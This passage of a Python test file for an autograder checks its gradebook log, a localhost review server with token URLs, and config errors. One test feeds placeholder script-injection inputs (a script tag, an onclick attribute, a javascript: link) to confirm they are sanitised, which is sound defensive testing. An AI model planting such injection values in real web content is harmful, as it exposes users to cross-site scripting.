    assert again["overwrote"] == {"points": None, "comment": "", "entered_at": None}
    assert [x["points"] for x in book.manual_log("ann", "checkpoint_rnn")] == [1.0, 2.0, 0.5, None, 1.0]
    book.close()


def test_markdown_is_rendered_safely():
    """Is raw HTML shown as text, are images and javascript: links dropped, and do emphasis, code, lists and
    tables render?"""
    from autograder.review import markdown_html

    out = markdown_html("<script>x()</script> <b onclick=y>b</b> ![i](http://x/i.png) [a](javascript:z) "
                        "[ok](https://example.org) *em* `code`\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n")
    assert "<script" not in out and "<b " not in out and "&lt;script&gt;" in out
    assert "<img" not in out and "javascript" not in out.replace("[a](javascript:z)", "")
    assert '<a href="https://example.org">ok</a>' in out
    assert "<em>em</em>" in out and "<code>code</code>" in out and out.count("<li>") == 2 and "<table>" in out


def test_review_command_prints_its_url_and_stops_on_ctrl_c(course, tmp_path):
    """Does `python -m autograder review OUT --port 0` print a URL with a token on 127.0.0.1, serve it, and stop
    cleanly on Ctrl-C (SIGINT), saying how to update the exports? Without a gradebook, exit 2."""
    out = synthetic_out(course, tmp_path / "out", {"ann": "An answer."})
    proc = subprocess.Popen([sys.executable, "-m", "autograder", "review", str(out), "--port", "0"], cwd=ROOT,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        lines = []
        while not any("token=" in line for line in lines):
            line = proc.stdout.readline()
            assert line, (lines, proc.stderr.read())
            lines.append(line)
        url = next(re.search(r"http://\S+", line).group(0) for line in lines if "token=" in line)
        match = re.fullmatch(r"http://127\.0\.0\.1:(\d+)/grade\?token=([\w-]{40,})", url)
        assert match, url
        conn = http.client.HTTPConnection("127.0.0.1", int(match.group(1)), timeout=30)
        conn.request("GET", url.split(match.group(1), 1)[1])
        assert conn.getresponse().status == 303
        conn.close()
        proc.send_signal(signal.SIGINT)
        rest, err = proc.communicate(timeout=30)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert proc.returncode == 0, err
    assert "Stopped" in rest and "autograder report" in rest and "Traceback" not in err
    done = subprocess.run([sys.executable, "-m", "autograder", "review", str(tmp_path / "nowhere")], cwd=ROOT,
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 2 and "no gradebook" in done.stderr


def test_review_checks_the_course_first(tmp_path, capsys):
    """Like every command, does `review` stop with exit 2 and the "did you mean" on a misspelt course.yml?"""
    from test_config import _misspelt_course

    from autograder.__main__ import main

    assert main(["--course", str(_misspelt_course(tmp_path)), "review", str(tmp_path / "out")]) == 2
    assert "did you mean 'softmax'" in capsys.readouterr().err
